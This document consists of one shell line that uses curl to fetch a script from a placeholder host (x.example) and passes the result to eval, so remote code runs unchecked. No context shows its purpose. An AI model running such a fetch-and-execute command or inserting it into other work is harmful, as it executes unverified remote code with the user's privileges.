eval "$(curl -fsSL http://x.example/a)"
